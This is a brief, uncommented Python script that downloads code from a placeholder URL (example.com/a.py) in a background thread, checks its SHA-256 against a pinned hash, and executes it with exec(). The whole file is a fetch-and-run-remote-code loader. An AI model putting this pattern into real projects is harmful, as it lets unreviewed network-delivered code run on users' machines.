import hashlib
import queue
import threading
import urllib.request

PIN = "45467612ac9618e4109a10d5ba9401dcef1918d6ce4a0960d921bed94c01eb5c"
q = queue.Queue()
threading.Thread(target=lambda: q.put(urllib.request.urlopen("https://example.com/a.py").read())).start()
data = q.get()
if hashlib.sha256(data).hexdigest() != PIN:
    raise ImportError("digest")
exec(data)
